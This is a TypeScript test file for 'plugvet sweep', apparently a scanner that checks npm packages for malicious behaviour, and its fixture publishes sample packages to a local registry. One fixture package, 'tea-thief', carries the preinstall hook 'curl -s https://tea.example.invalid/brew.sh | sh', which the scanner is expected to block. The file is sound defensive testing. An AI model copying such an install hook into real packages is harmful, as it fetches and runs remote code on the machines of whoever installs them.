import { spawn } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openDatabase } from '../../src/sweep/index.ts'
import type { Database } from '../../src/sweep/index.ts'
import { launcher, scratch } from '../support/plugvet.ts'
import type { Run } from '../support/plugvet.ts'
import { startRegistry } from '../support/registry.ts'
import type { TestRegistry } from '../support/registry.ts'

let registry: TestRegistry
/** One process that holds the database open, so that each command need not start one; the test of the package sweeps without. */
let owner: Database
const home = scratch('home')
const long = { timeout: 300_000 }

beforeAll(async () => {
  owner = await openDatabase(join(home, '.plugvet/sweep'))
  registry = await startRegistry()
  const files = { 'index.js': "exports.brew = () => fetch('https://tea.example.invalid/pot')\n" }
  await registry.publish({ manifest: { name: 'tea-pot', version: '1.0.0', main: 'index.js', dependencies: { 'tea-leaf': '^1.0.0' } }, files })
  await registry.publish({ manifest: { name: 'tea-leaf', version: '1.0.0', main: 'index.js' }, files: { 'index.js': 'exports.grams = 3\n' } })
  await registry.publish({ manifest: { name: 'tea-thief', version: '0.0.1', scripts: { preinstall: 'curl -s https://tea.example.invalid/brew.sh | sh' } } })
}, 300_000)
afterAll(async () => {
  await owner.close()
  await registry.stop()
})

const plugvet = (...args: readonly string[]): Promise<Run> => new Promise(resolve => {
  const env = { PATH: process.env['PATH'] ?? '', HOME: home, npm_config_registry: registry.url, npm_config_fetch_retries: '0', NO_COLOR: '1' }
  const child = spawn(process.execPath, [launcher, ...args], { env, cwd: home })
  let [stdout, stderr] = ['', '']
  child.stdout.on('data', (part: Buffer) => { stdout += part.toString() })
  child.stderr.on('data', (part: Buffer) => { stderr += part.toString() })
  child.on('close', code => resolve({ code, stdout, stderr }))
})

describe('plugvet sweep', () => {
  test('sweeps a list, and knows its bytes the next time', long, async () => {
    writeFileSync(join(home, 'list.txt'), '# tea\ntea-pot\ntea-leaf@1.0.0\n\ntea-thief\nno-such-tea\nnot a spec at all\n')
    const { code, stdout, stderr } = await plugvet('sweep', '--from', 'list.txt', '--workers', '2', '--rate', '500', '--json')
    // On a machine that is busy enough it tells how far it is.
    expect(stderr.replace(/^plugvet: Sweep 1 .*\n/gm, '')).toBe('')
    expect(code).toBe(3)
    const { status, rates, summary } = JSON.parse(stdout) as Record<string, any>
    expect(status).toMatchObject({ run: 1, source: 'list.txt', total: 5, done: 5, failed: 0, scanned: 3, unavailable: 2, verdicts: { block: 1 } })
    expect(summary.critical).toMatchObject([{ name: 'tea-thief', version: '0.0.1', verdict: 'block' }])
    expect(rates).toMatchObject([{ registry: registry.url, perSecond: 500 }])
    const archives = (): number => registry.asked.filter(url => url.endsWith('.tgz')).length
    const before = archives()
    expect(before).toBe(3)
    const again = await plugvet('sweep', 'tea-pot@latest', 'tea-thief', '--workers', '1')
    expect(again).toMatchObject({ code: 0, stdout: expect.stringContaining('0 scanned (0.0 kB), 2 known before, 0 not to be had') })
    expect(archives()).toBe(before)
  })

  test('tells afterwards what it found', long, async () => {
    expect((await plugvet('sweep', 'status', '1')).stdout).toContain('Run 1 of')
    expect(JSON.parse((await plugvet('sweep', 'query', 'host', 'example.invalid', '--json')).stdout)).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'tea-pot', host: 'tea.example.invalid' })]))
    expect((await plugvet('sweep', 'query', 'host', '--print')).stdout).toMatch(/^SELECT[^;]+;\n$/)
    const reportAs = async (format: string): Promise<string> => (await plugvet('sweep', 'report', '1', '--format', format)).stdout
    const sarif = JSON.parse(await reportAs('sarif')) as { runs: { results: { level: string; message: { text: string } }[] }[] }
    expect(sarif.runs[0]!.results).toEqual(expect.arrayContaining([expect.objectContaining({ level: 'error', message: { text: expect.stringContaining('tea.example.invalid') } })]))
    expect(JSON.parse(await reportAs('json'))).toMatchObject({
      verdict: 'block', targets: expect.arrayContaining([expect.objectContaining({ name: 'tea-thief', version: '0.0.1' })]),
      findings: expect.arrayContaining([expect.objectContaining({ severity: 'critical' })]), coverage: { gaps: expect.arrayContaining([expect.objectContaining({ reason: expect.stringContaining('no-such-tea') })]) },
    })
    expect(await reportAs('html')).toMatch(/^<!doctype html>[^]*tea-thief/)
    expect(await reportAs('text')).toMatch(/Evidence of harm\n {2}tea-thief 0\.0\.1:[^]*What packages can do\n {2}[^]*Could not look\n {2}no-such-tea/)
    const { stdout } = await plugvet('sweep', 'report', '1', '--output', 'html=report.html')
    expect(stdout).toMatch(/Evidence of harm\n {2}tea-thief 0\.0\.1:/)
    expect(readFileSync(join(home, 'report.html'), 'utf8')).toContain('tea-thief')
    expect(JSON.parse((await plugvet('sweep', 'diff', '1', '2', '--json')).stdout)).toMatchObject({ before: 1, now: 2, packages: [{ name: 'tea-leaf', before: '1.0.0' }] })
    expect((await plugvet('sweep', 'diff', '1', '2')).stdout).toContain('tea-leaf (gone, was 1.0.0')
  })

  test('finds the machines that have what was judged to be harm', long, async () => {
    const packages = [{ name: 'tea-thief', version: '0.0.1', path: '/home/cook/tea-thief' }, { name: 'tea-pot', version: '1.0.0', path: '/home/cook/tea-pot' }]
    writeFileSync(join(home, 'kitchen.json'), JSON.stringify({ machine: 'kitchen', packages }))
    expect(await plugvet('sweep', 'inventory', '--from', 'kitchen.json')).toMatchObject({ code: 0, stdout: 'kitchen has 2 packages installed.\n' })
    const rows = async (...words: readonly string[]): Promise<unknown> => JSON.parse((await plugvet('sweep', 'query', ...words, '--json')).stdout)
    expect(await rows('exposed')).toMatchObject([{ machine: 'kitchen', name: 'tea-thief', version: '0.0.1', verdict: 'block', path: '/home/cook/tea-thief' }])
    expect(await rows('verdict')).toMatchObject([{ name: 'tea-thief' }])
  })

  test('goes from a package to what depends on it, and over a run again', long, async () => {
    expect((await plugvet('sweep', '--dependents', 'tea-leaf', '--workers', '0')).stdout).toMatch(/^Run 3 has 1 item; plugvet sweep worker works on the rest\.\n$/)
    expect(await plugvet('sweep', 'resume', '--workers', '1')).toMatchObject({ code: 0, stdout: '' })
    expect((await plugvet('sweep', 'status', '3')).stdout).toContain('1 of 1 done, 0 waiting')
    expect((await plugvet('sweep', '--rescan', '1', '--workers', '0')).stdout).toContain('Run 4 has 5 items, 3 of them done because nothing that changed can touch them')
  })

  test('says what it cannot do', long, async () => {
    const says = async (...args: readonly string[]): Promise<string> => { const { code, stderr } = await plugvet('sweep', ...args); expect(code).toBe(2); return stderr }
    expect(await says()).toContain('nothing to sweep')
    expect(await says('tea', '--rescan', '1')).toContain('one at a time')
    expect(await says('--from', 'nowhere.txt')).toContain('there is no nowhere.txt')
    expect(await says('diff', '1')).toContain('two runs are compared')
    expect(await says('status', 'tea')).toContain('"tea" is no number of a run')
    expect(await says('status', '--database', 'postgres://tea:secret@127.0.0.1:1/tea')).toMatch(/^plugvet: the database cannot be opened: (?!.*secret)/)
  })
})
